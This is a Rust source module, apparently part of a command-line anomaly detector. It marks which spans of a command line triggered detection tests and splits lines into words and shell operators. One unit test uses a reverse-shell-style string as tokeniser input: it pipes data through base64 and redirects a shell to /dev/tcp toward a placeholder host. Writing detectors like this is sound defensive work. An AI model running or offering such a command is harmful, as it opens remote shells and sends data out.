//! Where in a command line the parts of a question are.
//!
//! Features have no place in a text. So the command line is cut into pieces, each piece is put before the embedder as
//! an argument, and those are marked that give a feature which was found. This is done for the few hits only.

use anomaly_vectorizer::{Execution, Hashed};

use crate::clues::{Test, TestId, Tests};
use crate::needles::whole;
use crate::readings;

/// Pieces of a command line that are looked at.
const MAX_PIECES: usize = 512;

/// The ranges of bytes of the command line that tests which were passed stand for: in order, apart.
pub(crate) fn spans(tests: &Tests, passed: &[TestId], execution: &Execution) -> Vec<(usize, usize)> {
    let line = execution.command_line();
    let small = line.to_ascii_lowercase();
    let mut spans = Vec::new();
    for (test, id) in tests.iter() {
        if passed.binary_search(&id).is_err() {
            continue;
        }
        match test {
            Test::Text(text) => {
                spans.extend(small.match_indices(text.as_str()).map(|(at, _)| (at, at + text.len())))
            }
            Test::Whole(text) => spans.extend(whole(&small, text).map(|at| (at, at + text.len()))),
            _ => {}
        }
    }
    let embedder = Hashed::default();
    let passes = |hash| tests.feature(hash).is_some_and(|id| passed.binary_search(&id).is_ok());
    for (start, end) in pieces(&line).into_iter().take(MAX_PIECES) {
        let piece = &line[start..end];
        let mut features = readings::of_argument(&embedder, piece);
        if piece.contains(['|', '&', ';', '<', '>', '`']) {
            features.extend(readings::as_class(&embedder, anomaly_vectorizer::FeatureClass::Operator, piece));
        }
        features.extend(readings::as_class(&embedder, anomaly_vectorizer::FeatureClass::Command, piece));
        features.extend(readings::as_class(&embedder, anomaly_vectorizer::FeatureClass::Name, piece));
        if features.iter().any(|feature| passes(feature.hash)) {
            spans.push((start, end));
        }
    }
    join(spans)
}

/// The pieces of a command line: words, and between them operators.
fn pieces(line: &str) -> Vec<(usize, usize)> {
    let kind = |c: char| match c {
        ' ' | '\t' | '\r' | '\n' | '"' | '\'' | ')' | '(' | '{' | '}' | ',' => 0,
        '|' | '&' | ';' | '<' | '>' | '`' => 1,
        _ => 2,
    };
    let mut pieces: Vec<(usize, usize)> = Vec::new();
    let mut before = 0;
    // Whether the last piece is a redirection with its descriptor, to which nothing is added.
    let mut is_whole = false;
    for (at, c) in line.char_indices() {
        let now = kind(c);
        let end = at + c.len_utf8();
        let touches = pieces.last().is_some_and(|last| last.1 == at);
        let piece = pieces.last().map_or("", |&(start, end)| &line[start..end]);
        // A descriptor belongs to its redirection: `2>`, `>&1`.
        let opens =
            now == 1 && matches!(c, '<' | '>') && piece.len() == 1 && piece.as_bytes()[0].is_ascii_digit();
        let closes = now == 2
            && (c.is_ascii_digit() || c == '-')
            && piece.contains(['<', '>'])
            && piece.ends_with('&');
        let goes_on = now == before && now != 0 && !is_whole;
        is_whole = touches && closes;
        match pieces.last_mut() {
            Some(last) if touches && (goes_on || opens || closes) => last.1 = end,
            _ if now != 0 => pieces.push((at, end)),
            _ => {}
        }
        before = now;
    }
    pieces
}

/// Ranges in order, those that overlap or touch as one.
fn join(mut spans: Vec<(usize, usize)>) -> Vec<(usize, usize)> {
    spans.sort_unstable();
    let mut joined: Vec<(usize, usize)> = Vec::with_capacity(spans.len());
    for (start, end) in spans {
        match joined.last_mut() {
            Some(last) if start <= last.1 => last.1 = last.1.max(end),
            _ => joined.push((start, end)),
        }
    }
    joined
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_is_cut_into_words_and_operators() {
        let line = "sh -c cat x|base64 >& /dev/tcp/h/1 0>&1 2>x 9>";
        let cut: Vec<_> = pieces(line).into_iter().map(|(start, end)| &line[start..end]).collect();
        assert_eq!(
            cut,
            ["sh", "-c", "cat", "x", "|", "base64", ">&", "/dev/tcp/h/1", "0>&1", "2>", "x", "9>"]
        );
    }

    #[test]
    fn ranges_that_touch_are_one() {
        assert_eq!(join(vec![(5, 7), (0, 2), (2, 4), (6, 9)]), [(0, 4), (5, 9)]);
    }
}
